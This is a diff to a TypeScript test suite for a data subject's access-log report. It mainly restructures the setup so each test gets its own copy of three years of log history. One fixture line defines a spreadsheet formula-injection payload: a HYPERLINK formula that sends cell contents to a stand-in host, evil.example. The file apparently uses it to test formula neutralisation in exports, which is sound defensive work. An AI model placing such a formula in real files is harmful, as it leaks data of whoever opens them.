@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { test } from 'node:test';
+import { beforeEach, test } from 'node:test';
 import { eq, sql } from 'drizzle-orm';
 import { partnerCustomers, staffUsers } from '../../src/server/db/schema/index.ts';
 import { winAnsiText } from '../../src/server/lib/pdf-pages.ts';
@@ -7,7 +7,7 @@ import { neutraliseFormula } from '../../src/server/modules/access-log/subject-r
 import { ROLES } from '../../src/contract/auth/permissions.ts';
 import {
   accessLogEntries,
-  forEachEngine,
+  forEachEngineAppPerTest,
   insertTestPartner,
   json,
   manualClock,
@@ -20,9 +20,11 @@ import { parseCsv, pdfInfo, pdfText } from '../helpers/report-files.ts';
 const clock = manualClock(new Date('2023-06-01T09:00:00Z'));
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Avaa")';
 
-forEachEngine(
+// Every report is itself an entry of the person's log, and the tests count the entries: each test
+// starts from its own copy of the same three years of history.
+forEachEngineAppPerTest(
   "the data subject's report: who has processed this person's data",
-  ({ ctx }) => {
+  ({ ctx, prepare }) => {
     let app: TestApp;
     let personId: string;
     let otherId: string;
@@ -58,8 +60,9 @@ forEachEngine(
         headers: { cookie },
       });
 
-    test('entries are made over three years by different users', async () => {
-      app = ctx();
+    // Entries are made over three years by different users.
+    prepare(async (prepared) => {
+      app = prepared;
       moveTo('2023-06-01T09:00:00Z');
       // 2023: registered — more than two years before the report, so left out by default.
       const registrar = await user('rekisteroija', 'register_officer', 'Rea Rekisteri');
@@ -119,6 +122,10 @@ forEachEngine(
 
       moveTo('2026-11-25T10:00:00Z');
       officerCookie = await user('tietosuoja.tiina', 'register_officer', 'Tiina Tietosuoja');
+    });
+
+    beforeEach(() => {
+      app = ctx();
     });
 
     test('by default: the last two years, exactly this person, oldest first, in their language', async () => {
@@ -183,6 +190,7 @@ forEachEngine(
     });
 
     test('making the report is logged as a report of this person, with its purpose', async () => {
+      assert.equal((await report('')).statusCode, 200);
       const last = (await accessLogEntries(app)).at(-1);
       assert.equal(last?.action, 'report');
       assert.deepEqual(last?.subjectIds, [personId]);
